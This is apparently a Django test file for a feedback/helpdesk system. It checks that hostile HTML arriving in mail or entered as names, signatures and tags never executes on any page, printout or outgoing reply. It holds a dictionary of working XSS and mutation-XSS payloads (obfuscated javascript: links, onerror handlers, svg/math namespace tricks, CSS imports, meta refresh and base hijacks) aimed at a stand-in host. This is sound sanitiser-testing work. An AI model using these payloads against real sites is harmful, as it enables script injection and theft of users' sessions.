"""Hostile HTML in a mail, wherever the mail can be seen: words stay words, nothing acts."""

from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from accounts.models import OutgoingMessage
from accounts.outbox.mime import compose
from feedback.enums import FollowReason, Quoting
from feedback.models import Category, Feedback, Message
from feedback.services.assignment import assign_feedback
from feedback.services.details import set_tags
from feedback.services.following import follows_now
from feedback.services.replies import add_note, send_reply
from feedback.services.signatures import save_signature
from tests.conftest import client_of
from tests.factories import FeedbackFactory, MailboxFactory
from tests.support.mail import mail

pytestmark = pytest.mark.django_db
# fmt: off
# `evil` stands where it would act, and nowhere else.
PAYLOADS = {
    "control characters": "<a href='\x01java\tscript:evil()'>a<a href='&#14;javascript:evil()'>",
    "odd spaces": "<a href='\u2028javascript:evil()'>a</a><img src='\xa0javascript:evil()'>",
    "name spaces": "<svg><style><a id='</style><img src=x onerror=evil()>'></svg><math><mi "
    "xlink:href='javascript:evil()'><annotation-xml encoding=text/html><img src=x onerror=evil()>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=evil()>'><table><caption><math>"
    "<mglyph><style><!--</style><img src=x onerror=evil()>-->",
    "styles": "<style>@import 'https://evil.example'</style><p style='width:expression(evil());"
    "background:url(//evil.example)'>a</p><td background=//evil.example>",
    "refresh and base": "<meta http-equiv=refresh content='0;url=//evil.example'>"
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "forms": "<form action=//evil.example><input name=evil formaction=//evil.example><button "
    "onclick=evil()>a</button></form>",
    "frames": "<iframe srcdoc='<script>evil()</script>'></iframe><object data=//evil.example>"
    "</object><embed src=//evil.example>",
    "data": "<a href='data:text/html,evil'>a</a><img src='data:image/svg+xml,evil'>",
    "unclosed": "<img src='x' onerror='evil()' <p <script>evil()<a href='javascript:evil()",
    "pictures": "<img src='cid:x\" onerror=evil()'><img src=//evil.example/1><img srcset=//evil>",
    "names": "<a id=evil name=evil></a><form id=evil><img name=evil>",
}
# fmt: on
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "base", "form", "meta", "svg", "link"}


class Acting(HTMLParser):
    """Collects where `evil` stands in a tag or in a script; a tooltip or a field may show it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        shown = {"title", "alt", "value", "aria-label"}
        self.found += [
            f"{tag} {name}={value}"
            for name, value in attrs
            if name not in shown
            and "evil" in f"{name} {value}"
            and not f"{tag} {name}={value}".startswith("a href=http")  # text with an address
        ]

    def handle_data(self, data):
        if self.tags and self.tags[-1] in {"script", "style"} and "evil" in data:
            self.found.append(f"{self.tags[-1]} {data}")

    def handle_comment(self, data):
        if "evil" in data:
            self.found.append(data)


def read(html: str) -> Acting:
    reader = Acting()
    reader.feed(html)
    reader.close()
    return reader


def test_nothing_in_a_mail_acts_wherever_it_is_shown(arrive, agent, team, admin):
    MailboxFactory(address="help@huiyin.test", team=team, quoting=Quoting.ALL)
    client = client_of(agent)
    for name, payload in PAYLOADS.items():
        arrive(
            mail(
                f"It leaks {payload}",
                html=f"<p>It leaks</p>{payload}",
                subject="Leak <img src=x onerror=evil()>",
                References="<first@example.org>",
                message_id=None if Feedback.objects.exists() else "<first@example.org>",
            )
        )
        message = Message.objects.filter(direction="in").latest("pk")
        record = message.feedback
        frame = client.get(reverse("feedback:message_html", args=[record.number, message.pk]))
        inside = read(frame.content.decode().partition("<body>")[2])
        assert not inside.found, name
        assert not FORBIDDEN & set(inside.tags), name
        assert "script-src" not in frame["Content-Security-Policy"]  # default-src 'none' holds
        assert frame["Referrer-Policy"] == "no-referrer"
    send_reply(record.pk, by=agent, text="We come.")

    assert record.messages.filter(direction="in").count() == len(PAYLOADS)
    for url in (
        record.get_absolute_url(),
        reverse("feedback:message", args=[record.number, message.pk]),
        reverse("feedback:print_record", args=[record.number]),
        reverse("feedback:queue"),
        reverse("feedback:search") + "?q=leaks",
        reverse("feedback:print_list"),
        reverse("feedback:notifications"),
        f"/s/{record.status_token}/",
    ):
        page = client.get(url)
        assert not read(page.content.decode()).found, url
        assert "'unsafe-inline'" not in page["Content-Security-Policy"]
    inbound = reverse("admin:feedback_inboundmail_changelist")
    assert not read(client_of(admin).get(inbound).content.decode()).found
    answers = [
        message_from_bytes(compose(one), policy=default).get_body(("html",))
        for one in OutgoingMessage.objects.filter(kind="reply")
    ]
    assert answers
    for html in answers:  # with what they quote
        assert not read(html.get_content()).found


# A37
def test_what_colleagues_are_called_and_sign_with_is_text_for_everybody(agent, team, admin):
    evil = "<img src=x onerror=evil()><script>evil()</script>"
    agent.name = team.name_en = team.name_zh = evil
    agent.save()
    team.save()
    MailboxFactory(address="help@huiyin.test", team=team, name=evil, quoting=Quoting.ALL)
    category = Category.objects.create(name_zh=evil, name_en=evil)
    save_signature(user=agent, body_zh=evil, body_en=evil)
    record = FeedbackFactory(team=team, category=category)
    set_tags(record.pk, by=agent, names=[evil])
    assign_feedback(record.pk, by=agent, assignee=agent, team=team)
    add_note(record.pk, by=agent, text=f"@{evil}")
    follows_now(record.pk, [admin.pk], FollowReason.ASKED)
    sent = send_reply(record.pk, by=agent, text="We come.")
    notice = OutgoingMessage.objects.filter(kind="reply")

    pages = [
        record.get_absolute_url(),
        reverse("feedback:print_record", args=[record.number]),
        reverse("feedback:queue"),
        reverse("feedback:print_list"),
        reverse("feedback:notifications"),
        reverse("feedback:signatures"),
        f"/s/{record.status_token}/",
    ]
    for url in pages:
        page = client_of(admin).get(url)
        assert page.status_code == 200, url
        assert not read(page.content.decode()).found, url
    assert "evil()" in sent.signature  # as text
    for one in notice:
        mailed = message_from_bytes(compose(one), policy=default)
        assert not read(mailed.get_body(("html",)).get_content()).found
        assert len(mailed["From"].addresses) == 1
